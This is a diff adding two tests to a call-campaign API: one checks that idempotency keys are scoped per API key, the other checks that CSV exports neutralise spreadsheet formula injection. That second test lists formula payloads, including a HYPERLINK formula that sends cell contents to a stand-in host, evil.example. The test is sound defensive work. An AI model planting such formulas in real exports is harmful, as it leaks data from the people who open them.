@@ -224,3 +224,45 @@ async def test_campaign_settings_are_checked_by_the_dialer_policy(client, keys):
     )
     assert good.status_code == 201, good.text
     assert good.json()["campaign"]["settings"] == {"windows": {"weekday": ["10:00", "18:00"]}}
+
+
+async def test_idempotency_keys_belong_to_the_api_key_that_sent_them(client, keys, db):
+    body = {"name": "Визиты", "scenario": "visit_warning",
+            "contacts": [{"phone": "+79161110001", "variables": {"visit_id": "V1", "visit_date": "2025-11-20"}}]}  # fmt: skip
+    mine = await client.post(
+        "/api/v1/campaigns", json=body, headers={**auth(keys["staff"]), "Idempotency-Key": "k1"}
+    )
+    theirs = await client.post(
+        "/api/v1/campaigns",
+        json={**body, "name": "чужое"},
+        headers={**auth(keys["admin"]), "Idempotency-Key": "k1"},
+    )
+    assert mine.status_code == 201 and theirs.status_code == 201  # no replay of, nor conflict with, staff's
+    assert theirs.json()["campaign"]["id"] != mine.json()["campaign"]["id"]
+    assert "Визиты" not in theirs.text
+    long_key = {**auth(keys["staff"]), "Idempotency-Key": "x" * 128}
+    assert (await client.post("/api/v1/campaigns", json=body, headers=long_key)).status_code == 201
+    assert (await client.post("/api/v1/campaigns", json=body, headers=long_key)).status_code == 200
+
+
+async def test_exported_results_cannot_run_formulas(client, keys, db):
+    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1",
+            "\r=1+1", " =1+1", "＝1+1"]  # fmt: skip
+    contacts = [
+        {"phone": f"+7916222{i:04d}", "account_number": value, "variables": {"ticket_number": "24001"}}
+        for i, value in enumerate(evil)
+    ]
+    created = await client.post(
+        "/api/v1/campaigns", json={"name": "NPS", "scenario": "nps_survey", "contacts": contacts},
+        headers=auth(keys["staff"]),
+    )  # fmt: skip
+    assert created.status_code == 201, created.text
+    cid = created.json()["campaign"]["id"]
+    exported = await client.get(f"/api/v1/campaigns/{cid}/results?format=csv", headers=auth(keys["staff"]))
+    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
+    accounts = [r["account_number"] for r in rows]
+    assert len(accounts) == created.json()["report"]["accepted"] >= 6
+    assert all(a.startswith("'") and a[1:].strip()[0] in "=+-@＝" for a in accounts), (
+        accounts
+    )  # all inert text
+    assert all(r["phone"].startswith("'+7916") for r in rows)  # "+…" would be a formula too
